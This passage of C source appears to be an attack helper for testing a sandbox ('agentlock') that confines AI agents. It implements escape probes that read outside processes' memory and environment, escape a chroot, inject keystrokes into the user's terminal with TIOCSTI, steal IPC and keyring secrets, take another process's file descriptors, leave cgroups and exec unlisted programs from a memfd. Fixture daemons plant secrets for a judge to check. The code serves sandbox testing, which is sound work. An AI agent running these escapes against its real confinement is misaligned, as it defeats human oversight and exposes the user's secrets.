	struct iovec l = { buf, sizeof(buf) }, r;
	ssize_t n;

	r.iov_base = (void *)env_start(pid);
	r.iov_len = sizeof(buf);
	n = process_vm_readv(pid, &l, 1, &r, 1, 0);
	if (n < 0)
		return say("process_vm_readv", -1);
	fwrite(buf, 1, (size_t)n, stdout);
	return 0;
}

static int procmem_cmd(pid_t pid)
{
	char p[64], buf[4096];
	int fd;
	ssize_t n;

	snprintf(p, sizeof(p), "/proc/%d/mem", pid);
	fd = open(p, O_RDONLY);
	if (fd < 0)
		return say(p, -1);
	n = pread(fd, buf, sizeof(buf), (off_t)env_start(pid));
	if (n < 0)
		return say("pread", -1);
	fwrite(buf, 1, (size_t)n, stdout);
	return 0;
}

static int ptrace_cmd(pid_t pid)
{
	long w;

	if (say("PTRACE_ATTACH", (int)ptrace(PTRACE_ATTACH, pid, 0, 0)))
		return 1;
	waitpid(pid, NULL, 0);
	w = ptrace(PTRACE_PEEKDATA, pid, (void *)env_start(pid), 0);
	fwrite(&w, sizeof(w), 1, stdout);
	return 0;
}

static int bpf_cmd(void)
{
	union bpf_attr attr;

	memset(&attr, 0, sizeof(attr));
	attr.map_type = BPF_MAP_TYPE_ARRAY;
	attr.key_size = 4;
	attr.value_size = 4;
	attr.max_entries = 1;
	return say("bpf(BPF_MAP_CREATE)", (int)syscall(SYS_bpf, BPF_MAP_CREATE, &attr, sizeof(attr)));
}

static void write_file(const char *p, const char *s)
{
	int fd = open(p, O_WRONLY);

	if (fd >= 0) {
		if (write(fd, s, strlen(s)) < 0)
			perror(p);
		close(fd);
	}
}

/* New user and mount namespaces, then bind the outside in and read it. */
static int userns_bind_cmd(const char *src, const char *dst, const char *file)
{
	char map[64], p[512];
	uid_t uid = getuid();
	gid_t gid = getgid();

	if (say("unshare(CLONE_NEWUSER|CLONE_NEWNS)", unshare(CLONE_NEWUSER | CLONE_NEWNS)))
		return 1;
	write_file("/proc/self/setgroups", "deny");
	snprintf(map, sizeof(map), "0 %u 1", uid);
	write_file("/proc/self/uid_map", map);
	snprintf(map, sizeof(map), "0 %u 1", gid);
	write_file("/proc/self/gid_map", map);
	if (say("mount --bind", mount(src, dst, NULL, MS_BIND, NULL)))
		return 1;
	snprintf(p, sizeof(p), "%s/%s", dst, file);
	return cat_path(p);
}

static int mount_bind_cmd(const char *src, const char *dst, const char *file)
{
	char p[512];

	if (say("mount --bind", mount(src, dst, NULL, MS_BIND, NULL)))
		return 1;
	snprintf(p, sizeof(p), "%s/%s", dst, file);
	return cat_path(p);
}

/* The classic: chroot into a subdirectory while keeping a handle above it. */
static int chroot_cmd(const char *sub, const char *target)
{
	int up = open(".", O_RDONLY | O_DIRECTORY);
	int i;

	if (say("chroot", chroot(sub)))
		return 1;
	if (fchdir(up) == 0)
		for (i = 0; i < 32; i++)
			if (chdir(".."))
				break;
	if (chroot("."))
		say("chroot(.)", -1);
	return cat_path(target);
}

static int handle_cmd(const char *mountdir, const char *path)
{
	struct file_handle *h = malloc(sizeof(*h) + 128);
	int mid, mfd, fd;

	h->handle_bytes = 128;
	if (say("name_to_handle_at", name_to_handle_at(AT_FDCWD, path, h, &mid, 0)))
		return 1;
	mfd = open(mountdir, O_RDONLY | O_DIRECTORY);
	fd = open_by_handle_at(mfd, h, O_RDONLY);
	if (say("open_by_handle_at", fd))
		return 1;
	cat_fd(fd);
	return 0;
}

/* Stands outside the cell with a secret in its environment and an open fd. */
static int victim_cmd(const char *secret_file, const char *pidfile)
{
	int fd = open(secret_file, O_RDONLY);
	FILE *f = fopen(pidfile, "w");

	(void)fd;
	if (f) {
		fprintf(f, "%d\n", getpid());
		fclose(f);
	}
	for (;;)
		pause();
	return 0;
}

/*
 * Fixture daemons. The caller returns once the child is set up, printing the
 * child's one-line description (its pid first) for the harness; the child
 * lives on in its own session, stdin and stdout on /dev/null, stderr (its
 * log) as given. A child that fails its set-up exits: the caller says so.
 */
static int daemon_start(int *ready)
{
	char buf[512];
	size_t len = 0;
	ssize_t n;
	int p[2];
	pid_t pid;

	if (pipe(p))
		return say("pipe", -1);
	pid = fork();
	if (pid < 0)
		return say("fork", -1);
	if (pid > 0) {
		close(p[1]);
		while (len < sizeof(buf) && (n = read(p[0], buf + len, sizeof(buf) - len)) > 0)
			len += (size_t)n;
		if (!len) {
			fprintf(stderr, "al-attack: the fixture died while setting up (see its log)\n");
			exit(1);
		}
		fwrite(buf, 1, len, stdout);
		exit(0);
	}
	close(p[0]);
	setsid();
	*ready = p[1];
	return 0;
}

static void daemon_ready(int ready, const char *line)
{
	int null = open("/dev/null", O_RDWR);

	if (write(ready, line, strlen(line)) < 0)
		_exit(1);
	close(ready);
	dup2(null, STDIN_FILENO);
	dup2(null, STDOUT_FILENO);
	close(null);
}

static void __attribute__((noreturn)) die(const char *what)
{
	fprintf(stderr, "al-attack: %s: %s\n", what, strerror(errno));
	_exit(1);
}

static int open_pty(int *slave)
{
	int m = posix_openpt(O_RDWR | O_NOCTTY);

	if (m < 0 || grantpt(m) || unlockpt(m))
		return -1;
	*slave = open(ptsname(m), O_RDWR | O_NOCTTY);
	return *slave < 0 ? -1 : m;
}

/*
 * Outside fixture: the terminal agentlock was started on, with the user's
 * shell behind it. Runs CMD with a new pty as its controlling terminal and
 * stdio, copies its output to stdout, and once it has exited writes to LOG
 * every byte left waiting in the terminal's input: what the shell would run.
 */
static int pty_run_cmd(const char *log, char **argv)
{
	struct termios t;
	char buf[4096];
	int m, s, fd, status = 0;
	bool done = false;
	ssize_t n;
	pid_t pid;

	m = open_pty(&s);
	if (m < 0 || tcgetattr(s, &t))
		return say("pty-run: pty", -1);
	t.c_oflag &= ~(tcflag_t)ONLCR; /* output lines as written, for the judge */
	tcsetattr(s, TCSANOW, &t);
	pid = fork();
	if (pid < 0)
		return say("pty-run: fork", -1);
	if (pid == 0) {
		setsid();
		if (ioctl(s, TIOCSCTTY, 0))
			die("TIOCSCTTY");
		dup2(s, STDIN_FILENO);
		dup2(s, STDOUT_FILENO);
		dup2(s, STDERR_FILENO);
		close(m);
		if (s > STDERR_FILENO)
			close(s);
		execvp(argv[0], argv);
		die(argv[0]);
	}
	fcntl(m, F_SETFL, O_NONBLOCK);
	while (!done) {
		struct pollfd p = { .fd = m, .events = POLLIN };

		poll(&p, 1, 100);
		while ((n = read(m, buf, sizeof(buf))) > 0)
			fwrite(buf, 1, (size_t)n, stdout);
		done = waitpid(pid, &status, WNOHANG) == pid;
	}
	while ((n = read(m, buf, sizeof(buf))) > 0)
		fwrite(buf, 1, (size_t)n, stdout);
	/* Raw and non-blocking: a line without its newline is input too. */
	tcgetattr(s, &t);
	cfmakeraw(&t);
	t.c_cc[VMIN] = 0;
	t.c_cc[VTIME] = 0;
	tcsetattr(s, TCSANOW, &t);
	fcntl(s, F_SETFL, O_NONBLOCK);
	fd = open(log, O_WRONLY | O_CREAT | O_TRUNC, 0600);
	if (fd < 0)
		return say(log, -1);
	while ((n = read(s, buf, sizeof(buf))) > 0)
		if (write(fd, buf, (size_t)n) != n)
			return say(log, -1);
	close(fd);
	return WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
}

/*
 * Outside fixture: the user's other terminal, a password prompt (echo off)
 * with a secret (AL_TTY_SECRET: argv is readable by anyone) typed in and not
 * yet read. Logs to stderr whatever is written to its screen. Prints
 * "PID /dev/pts/N".
 */
static int tty_holder_cmd(void)
{
	const char *secret = getenv("AL_TTY_SECRET");
	char line[128], buf[256];
	struct termios t;
	int ready, m, s;
	ssize_t n;

	if (!secret) {
		fprintf(stderr, "al-attack: tty-holder needs AL_TTY_SECRET\n");
		return 2;
	}
	if (daemon_start(&ready))
		return 1;
	m = open_pty(&s);
	if (m < 0 || fchmod(s, 0620) || tcgetattr(s, &t))
		die("tty-holder: pty");
	t.c_lflag &= ~(tcflag_t)(ECHO | ECHONL);
	if (tcsetattr(s, TCSANOW, &t) || dprintf(m, "%s\n", secret) < 0)
		die("tty-holder: typing the secret");
	snprintf(line, sizeof(line), "%d %s\n", getpid(), ptsname(m));
	daemon_ready(ready, line);
	for (;;) {
		n = read(m, buf, sizeof(buf));
		if (n > 0)
			fprintf(stderr, "TTY-RECEIVED %.*s\n", (int)n, buf);
		else if (n < 0 && errno != EINTR)
			die("tty-holder: read");
	}
}

/* Types TEXT and a newline into the terminal on stdin, as the user would
 * (TIOCSTI). CMD is the ioctl number as passed: the kernel keeps its low 32 bits. */
static int tiocsti_cmd(const char *what, unsigned long cmd, const char *text)
{
	const char *p;

	for (p = text; *p; p++)
		if (syscall(SYS_ioctl, STDIN_FILENO, cmd, p) < 0)
			return say(what, -1);
	if (syscall(SYS_ioctl, STDIN_FILENO, cmd, "\n") < 0)
		return say(what, -1);
	return say(what, 0);
}

#define AL_TTY_WRITTEN "AL-WROTE-TO-YOUR-TERMINAL\n"

/* Reads what waits in a terminal's input queue, then writes to its screen. */
static int tty_steal_cmd(const char *path)
{
	int fd = open(path, O_RDWR | O_NOCTTY | O_NONBLOCK);
	char buf[256];
	ssize_t n;

	if (fd < 0)
		return say(path, -1);
	printf("%s: opened\n", path);
	n = read(fd, buf, sizeof(buf));
	if (n > 0)
		printf("read: %.*s\n", (int)n, buf);
	else if (n < 0)
		say("read", -1);
	say("write", (int)write(fd, AL_TTY_WRITTEN, strlen(AL_TTY_WRITTEN)));
	close(fd);
	return 0;
}

#define AL_SHM_KEY 0x414c0001
#define AL_MSG_KEY 0x414c0002
#define AL_SEM_KEY 0x414c0003
#define AL_MQ_NAME "al-queue" /* "/al-queue": the syscall takes no slash */
#define AL_SEM_VALUE 7
#define AL_IPC_TEXT 128
#define AL_SHM_SIZE 4096
#define AL_MQ_MAXMSG 4

union semun {
	int val;
	struct semid_ds *buf;
	unsigned short *array;
};

struct al_msg {
	long type;
	char text[AL_IPC_TEXT];
};

struct al_mq_attr {
	long flags, maxmsg, msgsize, curmsgs, pad[4];
};

/*
 * Outside fixture (as the user): the user's IPC objects, owner-only. A SysV
 * shared memory segment (attached here) and message queue with a secret each,
 * a semaphore set to AL_SEM_VALUE, and a POSIX message queue (held open here)
 * with a secret. Secrets come from the environment. Prints "PID SHMADDR".
 */
static int ipc_holder_cmd(void)
{
	const char *shm_s = getenv("AL_SHM_SECRET"), *msg_s = getenv("AL_MSG_SECRET");
	const char *mq_s = getenv("AL_MQ_SECRET");
	struct al_mq_attr a = { .maxmsg = AL_MQ_MAXMSG, .msgsize = AL_IPC_TEXT };
	struct al_msg msg = { .type = 1 };
	union semun v = { .val = AL_SEM_VALUE };
	int ready, shm, q, sem;
	char line[128], *addr;
	long mq;

	if (!shm_s || !msg_s || !mq_s) {
		fprintf(stderr, "al-attack: ipc-holder needs AL_SHM_SECRET, AL_MSG_SECRET, AL_MQ_SECRET\n");
		return 2;
	}
	if (daemon_start(&ready))
		return 1;
	shm = shmget(AL_SHM_KEY, AL_SHM_SIZE, IPC_CREAT | IPC_EXCL | 0600);
	if (shm < 0 || (addr = shmat(shm, NULL, 0)) == (void *)-1)
		die("ipc-holder: shm");
	snprintf(addr, AL_SHM_SIZE, "%s", shm_s);
	snprintf(msg.text, sizeof(msg.text), "%s", msg_s);
	q = msgget(AL_MSG_KEY, IPC_CREAT | IPC_EXCL | 0600);
	if (q < 0 || msgsnd(q, &msg, strlen(msg.text) + 1, 0))
		die("ipc-holder: msg");
	sem = semget(AL_SEM_KEY, 1, IPC_CREAT | IPC_EXCL | 0600);
	if (sem < 0 || semctl(sem, 0, SETVAL, v))
		die("ipc-holder: sem");
	mq = syscall(SYS_mq_open, AL_MQ_NAME, O_RDWR | O_CREAT | O_EXCL, 0600, &a);
	if (mq < 0 || syscall(SYS_mq_timedsend, mq, mq_s, strlen(mq_s), 0, NULL))
		die("ipc-holder: mqueue");
	snprintf(line, sizeof(line), "%d %p\n", getpid(), (void *)addr);
	daemon_ready(ready, line);
	for (;;)
		pause();
}

/* Removes the fixture's IPC objects (run outside, after its holder is gone). */
static int ipc_clean_cmd(void)
{
	int id;

	if ((id = shmget(AL_SHM_KEY, 0, 0)) >= 0)
		shmctl(id, IPC_RMID, NULL);
	if ((id = msgget(AL_MSG_KEY, 0)) >= 0)
		msgctl(id, IPC_RMID, NULL);
	if ((id = semget(AL_SEM_KEY, 0, 0)) >= 0)
		semctl(id, 0, IPC_RMID);
	syscall(SYS_mq_unlink, AL_MQ_NAME);
	return 0;
}

/* What the user's IPC objects look like now (the judge runs it outside). */
static int ipc_state_cmd(void)
{
	struct al_mq_attr a;
	struct shmid_ds sd;
	struct msqid_ds md;
	int id;
	long mq;

	if ((id = shmget(AL_SHM_KEY, 0, 0)) >= 0 && !shmctl(id, IPC_STAT, &sd))
		printf("shm %d: %zu bytes, mode %o, owner %u\n", id, sd.shm_segsz,
		       sd.shm_perm.mode & 0777, sd.shm_perm.uid);
	else
		printf("shm: gone\n");
	if ((id = msgget(AL_MSG_KEY, 0)) >= 0 && !msgctl(id, IPC_STAT, &md))
		printf("msg %d: %lu messages, mode %o\n", id, (unsigned long)md.msg_qnum,
		       md.msg_perm.mode & 0777);
	else
		printf("msg: gone\n");
	if ((id = semget(AL_SEM_KEY, 0, 0)) >= 0)
		printf("sem %d: value %d\n", id, semctl(id, 0, GETVAL));
	else
		printf("sem: gone\n");
	mq = syscall(SYS_mq_open, AL_MQ_NAME, O_RDONLY, 0, NULL);
	if (mq >= 0 && !syscall(SYS_mq_getsetattr, mq, NULL, &a))
		printf("mqueue /%s: %ld messages\n", AL_MQ_NAME, a.curmsgs);
	else
		printf("mqueue: gone\n");
	return 0;
}

static int shm_read_cmd(unsigned long key)
{
	int id = shmget((key_t)key, 0, 0);
	char *p;

	if (say("shmget", id))
		return 1;
	p = shmat(id, NULL, SHM_RDONLY);
	if (say("shmat", p == (void *)-1 ? -1 : 0))
		return 1;
	printf("%.*s\n", AL_IPC_TEXT, p);
	return 0;
}

/* The segment as mapped in an outside process that holds it: found in
 * /proc/PID/maps (else at ADDR), read through /proc/PID/mem. */
static int shm_mem_cmd(pid_t pid, unsigned long key, unsigned long addr)
{
	char p[64], want[32], line[512], buf[AL_IPC_TEXT];
	FILE *f;
	ssize_t n;
	int fd;

	snprintf(p, sizeof(p), "/proc/%d/maps", pid);
	snprintf(want, sizeof(want), "/SYSV%08lx", key);
	f = fopen(p, "r");
	if (!f) {
		say(p, -1);
	} else {
		while (fgets(line, sizeof(line), f))
			if (strstr(line, want))
				addr = strtoul(line, NULL, 16);
		fclose(f);
	}
	snprintf(p, sizeof(p), "/proc/%d/mem", pid);
	fd = open(p, O_RDONLY);
	if (fd < 0)
		return say(p, -1);
	n = pread(fd, buf, sizeof(buf), (off_t)addr);
	if (say("pread", (int)n))
		return 1;
	printf("%.*s\n", (int)strnlen(buf, (size_t)n), buf);
	return 0;
}

static int msg_read_cmd(unsigned long key)
{
	struct al_msg m;
	int id = msgget((key_t)key, 0);
	ssize_t n;

	if (say("msgget", id))
		return 1;
	n = msgrcv(id, &m, sizeof(m.text), 0, IPC_NOWAIT | MSG_NOERROR);
	if (say("msgrcv", (int)n))
		return 1;
	printf("%.*s\n", (int)n, m.text);
	return 0;
}

static int sem_set_cmd(unsigned long key)
{
	union semun v = { .val = 0 };
	int id = semget((key_t)key, 0, 0);

	if (say("semget", id))
		return 1;
	say("semctl SETVAL", semctl(id, 0, SETVAL, v));
	say("semctl IPC_RMID", semctl(id, 0, IPC_RMID));
	return 0;
}

/* NAME is a queue ("/al-queue"), or a path such as /proc/PID/fd/N that
 * reopens a queue another process holds. */
static int mq_read_cmd(const char *name)
{
	char buf[8192];
	const char *what = name;
	long fd, n;

	if (!strncmp(name, "/proc/", 6)) {
		fd = open(name, O_RDONLY | O_NONBLOCK);
	} else {
		what = "mq_open";
		fd = syscall(SYS_mq_open, name + (name[0] == '/'), O_RDONLY | O_NONBLOCK, 0, NULL);
	}
	if (fd < 0)
		return say(what, -1);
	n = syscall(SYS_mq_timedreceive, fd, buf, sizeof(buf), NULL, NULL);
	if (say("mq_receive", (int)n))
		return 1;
	printf("%.*s\n", (int)n, buf);
	return 0;
}

/* Joins the IPC namespace NSPATH names (an outside process's), then runs CMD. */
static int ipc_setns_cmd(const char *nspath, char **argv)
{
	int fd = open(nspath, O_RDONLY);

	if (fd < 0)
		return say(nspath, -1);
	if (say("setns", setns(fd, CLONE_NEWIPC)))
		return 1;
	execvp(argv[0], argv);
	return say(argv[0], -1);
}

/* Owner everything; the user may view, read and search (as a user's
 * long-lived keys are: a Kerberos KEYRING cache, an ecryptfs passphrase). */
#define AL_KEY_PERM 0x3f0b0000
#define AL_KEY_IDS 64
#define AL_KEY_PAYLOAD 4096
#define AL_KEY_PLANTED "planted by the agent"

static long keyctl5(long op, long a, long b, long c, long d)
{
	return syscall(SYS_keyctl, op, a, b, c, d);
}

/* Outside fixture (as the user): @u holds one readable "user" key DESC with
 * the payload AL_KEY_SECRET, and nothing else. */
static int key_setup_cmd(const char *desc)
{
	const char *secret = getenv("AL_KEY_SECRET");
	long id;

	if (!secret) {
		fprintf(stderr, "al-attack: key-setup needs AL_KEY_SECRET\n");
		return 2;
	}
	keyctl5(KEYCTL_CLEAR, KEY_SPEC_USER_KEYRING, 0, 0, 0);
	id = syscall(SYS_add_key, "user", desc, secret, strlen(secret), KEY_SPEC_USER_KEYRING);
	if (id < 0)
		return say("key-setup: add_key", -1);
	if (keyctl5(KEYCTL_SETPERM, id, AL_KEY_PERM, 0, 0) < 0)
		return say("key-setup: keyctl_setperm", -1);
	return 0;
}

/* The user's keyring now: each key described, with a hash of its payload
 * (never the payload: this goes into the judge's snapshot). */
static int key_state_cmd(void)
{
	int32_t ids[AL_KEY_IDS];
	char desc[256], payload[AL_KEY_PAYLOAD];
	long n, i, len, j;
	uint32_t h;

	n = keyctl5(KEYCTL_READ, KEY_SPEC_USER_KEYRING, (long)ids, sizeof(ids), 0);
	if (n < 0)
		return say("key-state: keyctl_read @u", -1);
	for (i = 0; i < n / (long)sizeof(ids[0]) && i < AL_KEY_IDS; i++) {
		len = keyctl5(KEYCTL_DESCRIBE, ids[i], (long)desc, sizeof(desc), 0);
		if (len < 0)
			snprintf(desc, sizeof(desc), "(%s)", strerror(errno));
		len = keyctl5(KEYCTL_READ, ids[i], (long)payload, sizeof(payload), 0);
		for (h = 2166136261u, j = 0; j < len && j < AL_KEY_PAYLOAD; j++)
			h = (h ^ (unsigned char)payload[j]) * 16777619u;
		printf("key %d %.*s payload %ld bytes, hash %08x\n", ids[i], (int)sizeof(desc), desc,
		       len, h);
	}
	return 0;
}

static int key_print(long id)
{
	char buf[AL_KEY_PAYLOAD];
	long n = keyctl5(KEYCTL_READ, id, (long)buf, sizeof(buf), 0);

	if (say("keyctl_read", (int)n))
		return 1;
	printf("%.*s\n", (int)(n < (long)sizeof(buf) ? n : (long)sizeof(buf)), buf);
	return 0;
}

/* Finds the user's key DESC in @u and reads it, then asks for it again by
 * request_key (which searches every keyring the process has). */
static int key_steal_cmd(const char *desc)
{
	long id = keyctl5(KEYCTL_SEARCH, KEY_SPEC_USER_KEYRING, (long)"user", (long)desc, 0);

	if (!say("keyctl_search @u", (int)id))
		key_print(id);
	id = syscall(SYS_request_key, "user", desc, NULL, 0);
	if (!say("request_key", (int)id))
		key_print(id);
	return 0;
}

#define AL_PLANTED_NOFILE 64
#define AL_PLANTED_NICE 19
#define AL_IOPRIO_WHO_PROCESS 1
#define AL_IOPRIO_CLASS_SHIFT 13
#define AL_IOPRIO_CLASS_IDLE 3
#define AL_PLANTED_TIME 978307200 /* 2001-01-01 */
#define AL_MAX_FD_SCAN 32

static int ioprio_get_cmd(pid_t pid)
{
	long v = syscall(SYS_ioprio_get, AL_IOPRIO_WHO_PROCESS, pid);

	if (v < 0)
		return say("ioprio_get", -1);
	printf("ioprio %d: class %ld data %ld\n", pid, v >> AL_IOPRIO_CLASS_SHIFT,
	       v & ((1L << AL_IOPRIO_CLASS_SHIFT) - 1));
	return 0;
}

/* Makes PID the owner of a descriptor's SIGIO, then makes the descriptor
 * readable: SIGIO's default action ends PID. */
static int sigio_cmd(const char *how, pid_t pid)
{
	struct f_owner_ex ex = { .type = F_OWNER_PID, .pid = pid };
	bool sock = !strcmp(how, "fiosetown") || !strcmp(how, "siocspgrp");
	int fds[2], on = 1;

	if (sock ? socketpair(AF_UNIX, SOCK_STREAM, 0, fds) : pipe(fds))
		return say("pipe", -1);
	if (!strcmp(how, "fsetown"))
		say("F_SETOWN", fcntl(fds[0], F_SETOWN, pid));
	else if (!strcmp(how, "fsetown-ex"))
		say("F_SETOWN_EX", fcntl(fds[0], F_SETOWN_EX, &ex));
	else if (!strcmp(how, "fiosetown"))
		say("FIOSETOWN", ioctl(fds[0], FIOSETOWN, &pid));
	else if (!strcmp(how, "siocspgrp"))
		say("SIOCSPGRP", ioctl(fds[0], SIOCSPGRP, &pid));
	else
		return say("sigio: fsetown, fsetown-ex, fiosetown or siocspgrp", (errno = EINVAL, -1));
	if (sock)
		say("FIOASYNC", ioctl(fds[0], FIOASYNC, &on));
	else
		say("O_ASYNC", fcntl(fds[0], F_SETFL, O_ASYNC | O_NONBLOCK));
	say("write", (int)write(fds[1], "x", 1));
	return 0;
}

/* Copies each descriptor PID holds and reads it from the start. */
static int pidfd_getfd_cmd(pid_t pid)
{
	long pfd = syscall(SYS_pidfd_open, pid, 0), fd;
	char buf[256];
	ssize_t n;
	int i;

	if (pfd < 0)
		return say("pidfd_open", -1);
	for (i = 0; i < AL_MAX_FD_SCAN; i++) {
		fd = syscall(SYS_pidfd_getfd, pfd, i, 0);
		if (fd < 0 && errno == EBADF)
			continue;
		if (fd < 0)
			return say("pidfd_getfd", -1);
		printf("pidfd_getfd %d: ok\n", i);
		n = pread((int)fd, buf, sizeof(buf), 0);
		if (n > 0)
			fwrite(buf, 1, (size_t)n, stdout);
		close((int)fd);
	}
	return 0;
}

/* Advises the kernel to page out part of PID's stack (its environment). */
static int process_madvise_cmd(pid_t pid)
{
	long pfd = syscall(SYS_pidfd_open, pid, 0), page = sysconf(_SC_PAGESIZE);
	struct iovec v = { (void *)(env_start(pid) & ~(unsigned long)(page - 1)), (size_t)page };

	if (pfd < 0)
		return say("pidfd_open", -1);
	return say("process_madvise", (int)syscall(SYS_process_madvise, pfd, &v, 1, MADV_COLD, 0));
}

#define AL_NODEMASK_BITS 64

/* Asks where an outside process's pages live (move_pages without nodes
 * moves nothing), then migrates its pages from node 0 to node 0. */
static int move_pages_cmd(pid_t pid)
{
	long page = sysconf(_SC_PAGESIZE);
	void *addr = (void *)(env_start(pid) & ~(unsigned long)(page - 1));
	unsigned long nodes = 1; /* node 0 */
	int status = 0;

	if (!say("move_pages", (int)syscall(SYS_move_pages, pid, 1, &addr, NULL, &status, 0)))
		printf("page of %d at %p: status %d\n", pid, addr, status);
	return say("migrate_pages",
		   (int)syscall(SYS_migrate_pages, pid, AL_NODEMASK_BITS, &nodes, &nodes));
}

static int utime_cmd(const char *path, bool opath)
{
	struct timespec ts[2] = { { AL_PLANTED_TIME, 0 }, { AL_PLANTED_TIME, 0 } };
	int fd;

	if (!opath)
		return say("utimensat", utimensat(AT_FDCWD, path, ts, 0));
	/* An O_PATH descriptor is never opened for reading or writing. */
	fd = open(path, O_PATH);
	if (say("open O_PATH", fd))
		return 1;
	return say("utimensat", utimensat(fd, "", ts, AT_EMPTY_PATH));
}

/* This process's cgroups, as /proc/self/cgroup says them. */
static void own_cgroups(char *buf, size_t len)
{
	int fd = open("/proc/self/cgroup", O_RDONLY | O_CLOEXEC);
	ssize_t n = fd < 0 ? -1 : read(fd, buf, len - 1);

	buf[n > 0 ? n : 0] = '\0';
	if (fd >= 0)
		close(fd);
}

/* Writes s to path; says "cgroup_write PATH: ok" if it took. */
static void cgroup_put(const char *path, const char *s)
{
	char what[PATH_MAX + 32];
	int fd = open(path, O_WRONLY | O_CLOEXEC);
	ssize_t n = fd < 0 ? -1 : write(fd, s, strlen(s));

	snprintf(what, sizeof(what), "cgroup_write %s", path);
	if (fd >= 0 || errno != ENOENT)
		say(what, n == (ssize_t)strlen(s) ? 0 : -1);
	if (fd >= 0)
		close(fd);
}

/*
 * Leaves the cell's cgroup: its pid into the cgroup.procs of every cgroup
 * above it (v2, and each v1 hierarchy's root), its limits lifted, a cgroup
 * of its own made beside it. "cgroup_leave: ok" if it is elsewhere after.
 */
static int cgroup_leave_cmd(void)
{
	static const char *const roots[] = { "/sys/fs/cgroup", "/sys/fs/cgroup/pids",
					     "/sys/fs/cgroup/memory", "/sys/fs/cgroup/cpu",
					     "/sys/fs/cgroup/unified" };
	char before[4096], after[4096], pid[32], path[PATH_MAX], *line, *save = NULL;
	size_t i;

	own_cgroups(before, sizeof(before));
	snprintf(pid, sizeof(pid), "%d", (int)getpid());
	for (line = strtok_r(strcpy(after, before), "\n", &save); line;
	     line = strtok_r(NULL, "\n", &save)) {
		char *ctls = strchr(line, ':'), *rel, *slash, base[256];

		rel = ctls ? strchr(++ctls, ':') : NULL;
		if (!rel || !strncmp(ctls, "name=", 5))
			continue;
		*rel++ = '\0';
		/* v2 ("0::/x"): /sys/fs/cgroup/x; v1 ("4:memory:/x"): /sys/fs/cgroup/memory/x. */
		snprintf(base, sizeof(base), "/sys/fs/cgroup%s%s", *ctls ? "/" : "", ctls);
		/* The cell's own cgroup and each above it: its limits, then its pid. */
		for (;;) {
			snprintf(path, sizeof(path), "%s%s/pids.max", base, rel);
			cgroup_put(path, "max");
			snprintf(path, sizeof(path), "%s%s/memory.max", base, rel);
			cgroup_put(path, "max");
			snprintf(path, sizeof(path), "%s%s/memory.limit_in_bytes", base, rel);
			cgroup_put(path, "-1");
			snprintf(path, sizeof(path), "%s%s/cgroup.procs", base, rel);
			cgroup_put(path, pid);
			slash = strrchr(rel, '/');
			if (!slash || slash == rel)
				break;
			*slash = '\0';
		}
	}
	for (i = 0; i < sizeof(roots) / sizeof(roots[0]); i++) {
		snprintf(path, sizeof(path), "%s/cgroup.procs", roots[i]);
		cgroup_put(path, pid);
		snprintf(path, sizeof(path), "%s/al-escape", roots[i]);
		if (!mkdir(path, 0755)) {
			printf("cgroup_mkdir %s: ok\n", path);
			snprintf(path, sizeof(path), "%s/al-escape/cgroup.procs", roots[i]);
			cgroup_put(path, pid);
		}
	}
	own_cgroups(after, sizeof(after));
	return say("cgroup_leave", strcmp(before, after) ? 0 : (errno = EPERM, -1));
}

/* A program copied into a memfd and run from there (fexecve): an exec whose
 * file has no path in any directory the allow-list could name. */
static int memfd_exec_cmd(const char *src, char **argv)
{
	extern char **environ;
	char buf[65536], self[64];
	int in = open(src, O_RDONLY | O_CLOEXEC), fd;
	ssize_t n;

	if (in < 0) {
		printf("memfd-exec: open %s: %s\n", src, strerror(errno));
		return 1;
	}
	fd = (int)syscall(SYS_memfd_create, "al-unlisted", 0);
	if (fd < 0) {
		printf("memfd-exec: memfd_create: %s\n", strerror(errno));
		return 1;
	}
	while ((n = read(in, buf, sizeof(buf))) > 0)
		if (write(fd, buf, (size_t)n) != n)
			return 1;
	close(in);
	syscall(SYS_execveat, fd, "", argv, environ, AT_EMPTY_PATH);
	printf("memfd-exec: execveat: %s\n", strerror(errno));
	snprintf(self, sizeof(self), "/proc/self/fd/%d", fd);
	execve(self, argv, environ);
	printf("memfd-exec: execve %s: %s\n", self, strerror(errno));
	return 1;
}

int main(int argc, char **argv)
{
	const char *c = argc > 1 ? argv[1] : "";

	setvbuf(stdout, NULL, _IONBF, 0);
	if (!strcmp(c, "read") && argc == 3)
		return cat_path(argv[2]);
	if (!strcmp(c, "nnp-exec") && argc >= 3)
		return nnp_exec_cmd(&argv[2]);
	if (!strcmp(c, "exec-as") && argc >= 5)
		return exec_as_cmd((uid_t)atoi(argv[2]), (gid_t)atoi(argv[3]), &argv[4]);
	if (!strcmp(c, "memfd-exec") && argc >= 4)
		return memfd_exec_cmd(argv[2], &argv[3]);
	if (!strcmp(c, "listen") && argc == 4)
		return listen_cmd(argv[2], argv[3], SOCK_STREAM);
	if (!strcmp(c, "dgram-listen") && argc == 3)
		return listen_cmd(argv[2], "/dev/null", SOCK_DGRAM);
	if (!strcmp(c, "connect") && argc == 3)
		return connect_cmd(argv[2], SOCK_STREAM);
	if (!strcmp(c, "connect-race") && argc == 5)
		return connect_race_cmd(argv[2], argv[3], atoi(argv[4]));
	if (!strcmp(c, "open-race") && argc == 5)
		return open_race_cmd(argv[2], argv[3], atoi(argv[4]));
	if (!strcmp(c, "connect-opath") && argc == 3)
		return connect_opath_cmd(argv[2]);
	if (!strcmp(c, "connect-fdswap") && argc == 4)
		return connect_fdswap_cmd(argv[2], atoi(argv[3]));
	if (!strcmp(c, "dgram-send") && argc == 3)
		return connect_cmd(argv[2], SOCK_DGRAM);
	if (!strcmp(c, "tcp-listen") && argc == 4)
		return tcp_listen_cmd(argv[2], argv[3]);
	if (!strcmp(c, "tcp-connect") && argc == 4)
		return tcp_connect_cmd(argv[2], argv[3], false);
	if (!strcmp(c, "dns-serve") && argc >= 3)
		return dns_serve_cmd(argv[2], argc - 3, argv + 3);
	if (!strcmp(c, "dns-ask") && argc == 4)
		return dns_ask_cmd(argv[2], argv[3]);
	if (!strcmp(c, "connect-name") && argc == 4)
		return connect_name_cmd(argv[2], argv[3]);
	if (!strcmp(c, "udp-serve") && argc == 5)
		return udp_serve_cmd(argv[2], argv[3], argv[4]);
	if (!strcmp(c, "udp-send") && argc == 5)
		return udp_send_cmd(argv[2], argv[3], argv[4]);
	if (!strcmp(c, "icmp-listen") && argc == 2)
		return icmp_listen_cmd();
	if (!strcmp(c, "dns-forge") && argc == 5)
		return dns_forge_cmd(argv[2], argv[3], argv[4]);
	if (!strcmp(c, "tcp-fastopen") && argc == 4)
		return tcp_connect_cmd(argv[2], argv[3], true);
